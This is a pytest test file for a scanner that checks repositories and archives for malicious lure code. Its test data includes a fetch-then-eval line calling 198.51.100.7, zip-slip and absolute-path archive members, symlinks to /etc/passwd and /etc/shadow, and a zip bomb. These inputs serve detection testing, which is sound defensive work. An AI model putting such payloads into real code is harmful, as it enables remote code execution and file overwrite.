"""Bad input: one clear line (exit 2) or a note, never a crash, nothing written outside a
temporary directory that is gone afterwards."""

from __future__ import annotations

import io
import os
import tarfile
import tempfile
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from nkwatch.cli.main import cli
from nkwatch.errors import UserError
from nkwatch.lure import check_path
from nkwatch.lure.extract import Limits


@pytest.fixture()
def private_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Temporary directories go here, so a test can see that none is left behind."""
    where = tmp_path / "tmp"
    where.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(where))
    return where


def _refused(path: Path, fragment: str) -> str:
    res = CliRunner().invoke(cli, ["lure", "check", str(path)])
    assert res.exit_code == 2, res.output
    line = res.output.strip()
    assert "\n" not in line and "Traceback" not in line and fragment in line, line
    return line


def test_corrupt_archive(tmp_path: Path, private_tmp: Path) -> None:
    bad = tmp_path / "repo.zip"
    bad.write_bytes(b"PK\x03\x04" + os.urandom(200))
    _refused(bad, "corrupt")
    bad_tgz = tmp_path / "pkg.tgz"
    bad_tgz.write_bytes(b"\x1f\x8b\x08\x00" + os.urandom(100))
    _refused(bad_tgz, "pkg.tgz")
    assert list(private_tmp.iterdir()) == []


def test_zip_slip_and_absolute_paths(tmp_path: Path, private_tmp: Path) -> None:
    for member, words in (
        ("../../evil.js", "escapes"),
        ("/etc/evil.js", "absolute"),
        ("C:/evil.js", "absolute"),
    ):
        z = tmp_path / "slip.zip"
        with zipfile.ZipFile(z, "w") as zf:
            zf.writestr("ok.txt", "fine")
            zf.writestr(member, "console.log(1)")
        _refused(z, words)
    assert not (tmp_path.parent / "evil.js").exists()
    assert list(private_tmp.iterdir()) == []


def test_links_and_devices_are_not_created(tmp_path: Path, private_tmp: Path) -> None:
    t = tmp_path / "links.tar.gz"
    with tarfile.open(t, "w:gz") as tf:
        for name, kind, target in (
            ("package/link", tarfile.SYMTYPE, "/etc/passwd"),
            ("package/hard", tarfile.LNKTYPE, "/etc/shadow"),
            ("package/dev", tarfile.CHRTYPE, ""),
        ):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, target
            tf.addfile(info)
        data = b'{"name": "x"}'
        info = tarfile.TarInfo("package/package.json")
        info.size = len(data)
        tf.addfile(info, io.BytesIO(data))
    report = check_path(t)
    assert {n.path for n in report.notes} == {"package/link", "package/hard", "package/dev"}
    assert report.files == 1 and report.exit_code == 0
    assert list(private_tmp.iterdir()) == []


def test_zip_symlink_member_is_not_followed(tmp_path: Path) -> None:
    z = tmp_path / "ln.zip"
    with zipfile.ZipFile(z, "w") as zf:
        info = zipfile.ZipInfo("repo/config.js")
        info.external_attr = 0o120777 << 16
        zf.writestr(info, "/etc/passwd")
    report = check_path(z)
    assert report.files == 0 and "link" in report.notes[0].message


def test_bomb_ratio_total_count_and_depth(tmp_path: Path, private_tmp: Path) -> None:
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("a.js", b"\0" * (64 << 20))
    assert "compression-ratio" in _refused(bomb, "limit")
    with pytest.raises(UserError, match="total-size"):
        check_path(bomb, limits=Limits(max_total=1 << 20, max_ratio=10**6))
    many = tmp_path / "many.zip"
    with zipfile.ZipFile(many, "w") as zf:
        for i in range(30):
            zf.writestr(f"f{i}.js", "1")
    with pytest.raises(UserError, match="file-count limit"):
        check_path(many, limits=Limits(max_files=20))
    deep = tmp_path / "deep.zip"
    with zipfile.ZipFile(deep, "w") as zf:
        zf.writestr("/".join(["d"] * 40) + "/x.js", "1")
    _refused(deep, "deeper than 32")
    assert list(private_tmp.iterdir()) == []


def test_not_an_archive_and_missing(tmp_path: Path) -> None:
    fake = tmp_path / "fake.tgz"
    fake.write_text("hello")
    _refused(fake, "not a zip or tar archive")
    _refused(tmp_path / "nope", "no such file or folder")


def test_binary_where_text_is_expected(tmp_path: Path) -> None:
    (tmp_path / "index.js").write_bytes(b"\x00\x01\x02" * 1000)
    (tmp_path / "package.json").write_bytes(b"\xff\xfe\x00garbage")
    (tmp_path / ".vscode").mkdir()
    (tmp_path / ".vscode" / "tasks.json").write_bytes(b'{"tasks": [ {"runOn": "folderOpen" ')
    report = check_path(tmp_path)
    assert any("binary data where text is expected" in n.message for n in report.notes)
    assert [f.rule_id for f in report.findings] == [
        "vscode-folder-open"
    ]  # unparsable but says folderOpen


APPENDED = (
    b"const cp=require('child_process');"
    b"fetch('http://198.51.100.7:1224/p').then(r=>r.text()).then(t=>eval(t));\n"
)


def test_hundred_megabyte_minified_file(tmp_path: Path) -> None:
    line = b"var a=function(b){return b+1};" * 1000
    with (tmp_path / "bundle.min.js").open("wb") as fh:
        for _ in range(100 * (1 << 20) // len(line) + 1):
            fh.write(line)
        fh.write(b"\n" + APPENDED)  # code appended to the end of the bundle is still found
    assert (tmp_path / "bundle.min.js").stat().st_size >= 100 << 20
    report = check_path(tmp_path)
    assert report.notes and "head, tail and trigger spots" in report.notes[0].message
    assert {(f.rule_id, f.line) for f in report.findings} >= {("network-to-exec", 2)}
    assert report.exit_code == 3


@pytest.mark.parametrize("where", ["end", "middle", "start"])
def test_code_spliced_into_a_large_bundle_is_found(tmp_path: Path, where: str) -> None:
    """A bundle over the whole-tree size gets trees of its head, tail and trigger spots:
    code prepended, appended (on the same line) or spliced beside a sink is still found."""
    body = b"!function(e){var t={};function n(r){return t[r]}n.m=e}([function(e,t){e.x=1}]);"
    bundle = body * (2 * 1024 * 1024 // len(body))
    half = len(bundle) // 2 // len(body) * len(body)
    data = {
        "end": bundle + APPENDED,
        "middle": bundle[:half] + APPENDED.strip() + bundle[half:],
        "start": APPENDED + bundle,
    }[where]
    (tmp_path / "vendor.min.js").write_bytes(data)
    report = check_path(tmp_path)
    found = [f for f in report.findings if f.rule_id == "network-to-exec"]
    assert found and report.exit_code == 3
    offset = data.find(b"eval(t)")
    assert (found[0].line, found[0].column) == (
        data.count(b"\n", 0, offset) + 1,
        offset - data.rfind(b"\n", 0, offset),
    )


def test_not_python_and_not_js_do_not_crash(tmp_path: Path) -> None:
    (tmp_path / "py2.py").write_text("print 'hello'\nexec code in ns\n")
    (tmp_path / "broken.ts").write_text("function ( { eval(fetch(")
    (tmp_path / "requirements.txt").write_bytes(b"\xff\xfe\x00\x00")
    (tmp_path / "pyproject.toml").write_text("[project\nname=")
    report = check_path(tmp_path)
    assert report.files == 4


def test_members_past_the_memory_budget_spill_and_are_still_checked(
    tmp_path: Path, private_tmp: Path
) -> None:
    """Archives are read in memory; past Limits.max_memory members go to a temporary folder
    (removed afterwards) and are checked the same way."""
    lure = Path(__file__).parent / "lures" / "beavertail-wallet-stealer"
    archive = tmp_path / "lure.tgz"
    with tarfile.open(archive, "w:gz") as tf:
        tf.add(lure, arcname="package")
    in_memory = check_path(archive)
    spilled = check_path(archive, limits=Limits(max_memory=0))
    assert in_memory.high and in_memory.findings == spilled.findings
    assert list(private_tmp.iterdir()) == []
